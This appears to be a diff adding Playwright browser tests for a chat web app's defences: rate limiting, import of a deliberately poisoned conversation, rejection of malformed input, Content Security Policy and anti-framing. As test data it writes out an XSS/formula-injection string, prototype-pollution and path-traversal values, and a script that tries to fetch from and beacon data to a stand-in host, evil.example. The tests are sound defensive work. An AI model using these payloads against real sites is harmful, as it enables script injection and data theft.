@@ -1,0 +1,118 @@
+"""The page under attack, and at a visitor's limit: nothing runs, nothing is lost."""
+
+import json
+from collections.abc import Callable, Iterator
+from typing import cast
+
+import pytest
+from playwright.sync_api import Browser, BrowserContext, expect
+
+from gemma_space.playground import Playground
+from gemma_space.settings import Settings
+from tests.browser.chat_page import ChatPage
+from tests.browser.conftest import served
+from tests.browser.fake_playground import FakePlayground
+
+NAME = '"><img src=x onerror=window.hacked=1>=cmd|x'
+
+
+@pytest.fixture(scope="module")
+def shared(browser: Browser) -> Iterator[tuple[FakePlayground, str]]:
+    """The app with one request for each visitor at a time."""
+    fake = FakePlayground()
+    with served(cast(Playground, fake), settings=Settings(per_visitor=1)) as url:
+        yield fake, url
+
+
+def test_at_the_limit_a_message_is_kept_and_can_be_sent_again(
+    shared: tuple[FakePlayground, str], new_context: Callable[..., BrowserContext]
+) -> None:
+    fake, url = shared
+    context = new_context()
+    one, other = (ChatPage(context.new_page(), url).open() for _ in range(2))
+    fake.words, fake.seconds = ("word ",) * 600, 0.1
+    one.send("Take your time")
+    expect(one.reply).to_contain_text("word")
+    other.send("My question")
+    notice = other.page.locator("#transcript, #notice").filter(has_text="no more may be at once")
+    expect(notice.first).to_be_visible()
+    expect(other.user_messages.last).to_have_text("My question")
+    one.stop_button.click()
+    one.finished()
+    fake.words, fake.seconds = ("An ", "answer."), 0.0
+    other.button("Try again").click()
+    expect(other.reply).to_have_text("An answer.")
+    expect(other.user_messages).to_have_count(1)
+
+
+def poisoned() -> str:
+    """A conversation that was written to break the page."""
+    facts = '{"__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}}'
+    deep = "[" * 3000 + "]" * 3000
+    return (
+        f'{{"__proto__": {{"polluted": 1}}, "title": {json.dumps(NAME)}, "system_prompt": 5, '
+        f'"other": {deep}, "id": "../x", "updated": 1e999, "messages": ['
+        f'{{"role": "user", "content": {json.dumps(NAME)}, "__proto__": {{"polluted": 1}}}},'
+        f'{{"role": "assistant", "content": {json.dumps(NAME)}, "footer": {{"title": '
+        f'{json.dumps(NAME)}, "log": 1e999, "detail": {deep}, "record": {facts}}}}}]}}'
+    )
+
+
+def test_an_imported_conversation_changes_nothing_but_the_list(chat: ChatPage) -> None:
+    chat.import_text(poisoned())
+    expect(chat.conversations.first).to_contain_text(NAME)
+    expect(chat.user_messages).to_have_count(1)
+    assert chat.page.locator("img[src=x]").count() == 0
+    assert chat.page.evaluate("[window.hacked, ({}).polluted, [].polluted]") == [None] * 3
+    kept = chat.stored()[0]
+    assert kept["id"] != "../x"
+    assert kept["system_prompt"] == ""
+    chat.reload()
+    expect(chat.user_messages).to_have_count(1)
+    assert chat.page.evaluate("[window.hacked, ({}).polluted]") == [None, None]
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["[" * 200_000, "[" * 20_000 + "]" * 20_000, '{"messages": {"__proto__": []}}', "1e999",
+     '[{"role": "__proto__", "content": "x"}]', '{"messages": [null]}', "x" * 5_000_001],
+    ids=lambda text: text[:40],
+)  # fmt: skip
+def test_what_is_no_conversation_is_refused_in_words(chat: ChatPage, text: str) -> None:
+    chat.import_text(text)
+    expect(chat.page.locator(".conversations-message.problem")).to_be_visible()
+    expect(chat.box).to_be_visible()
+
+
+def test_the_page_can_load_from_and_send_to_nobody_else(
+    chat: ChatPage, tolerated: list[str]
+) -> None:
+    """Whatever a script that was smuggled in would try. The console says what was refused."""
+    tolerated += ["Content Security Policy", "external request: http://evil.example/"]
+    tried = """async () => {
+      const seen = [];
+      document.addEventListener("securitypolicyviolation", (e) => seen.push(e.effectiveDirective));
+      await fetch("http://evil.example/").catch(() => {});
+      navigator.sendBeacon("http://evil.example/", "x");
+      for (const [kind, name] of [["img", "src"], ["script", "src"], ["iframe", "src"],
+                                  ["object", "data"], ["link", "href"], ["audio", "src"]]) {
+        const made = document.createElement(kind);
+        if (kind === "link") made.rel = "stylesheet";
+        made[name] = "http://evil.example/";
+        document.body.append(made);
+      }
+      await new Promise((resolve) => setTimeout(resolve, 300));
+      return [...new Set(seen)].sort();
+    }"""
+    blocked = chat.page.evaluate(tried)
+    assert {"connect-src", "img-src", "script-src-elem", "frame-src", "object-src"} <= set(blocked)
+    assert {"style-src-elem", "media-src"} <= set(blocked)
+
+
+def test_no_other_site_shows_the_page_in_a_frame(chat: ChatPage, tolerated: list[str]) -> None:
+    tolerated += ["frame-ancestors", "Refused to frame", "ERR_BLOCKED"]
+    other = chat.page.context.new_page()
+    other.goto("about:blank")
+    other.set_content(f"<iframe src='{chat.url}'></iframe>")
+    other.wait_for_load_state()
+    assert not any(frame.url.startswith(chat.url) for frame in other.frames if frame.parent_frame)
